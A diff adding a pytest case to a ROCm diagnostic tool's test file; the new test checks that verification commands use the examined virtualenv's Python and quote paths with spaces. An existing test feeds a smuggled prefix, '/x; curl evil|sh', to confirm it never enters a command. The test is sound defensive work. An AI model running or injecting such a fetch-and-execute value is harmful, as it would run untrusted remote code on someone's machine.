@@ -6,7 +6,7 @@ import pytest
 
 from rocm_doctor.matrix import load
 from rocm_doctor.model import Fact, Gpu, Snapshot, Value
-from rocm_doctor.rules.offers import offered
+from rocm_doctor.rules.offers import examined, offered
 
 MATRIX = load()
 
@@ -40,3 +40,15 @@ def test_a_capture_without_a_gpu_keeps_the_plain_command() -> None:
 
 def test_a_prefix_that_is_no_path_is_not_put_into_a_command() -> None:
     assert commands("machine", {"python.env": "venv", "python.prefix": "/x; curl evil|sh"}) == ["rocm-doctor plan", "uname -r"]
+
+
+def test_what_verifies_a_cure_runs_in_the_interpreter_that_was_examined() -> None:
+    command = MATRIX.typed(['python -c "import torch"', "rocminfo"])
+    facts = Snapshot({"python.prefix": Fact("/srv/train/.venv"), "platform": Fact("linux")})
+    assert [c.text for c in examined(command, facts, "machine", MATRIX)] == [
+        '/srv/train/.venv/bin/python -c "import torch"',
+        "rocminfo",
+    ]
+    assert examined(command, facts, "capture", MATRIX) == command
+    odd = Snapshot({"python.prefix": Fact("/srv/my env"), "platform": Fact("linux")})
+    assert examined(command, odd, "machine", MATRIX)[0].text == "'/srv/my env'/bin/python -c \"import torch\""
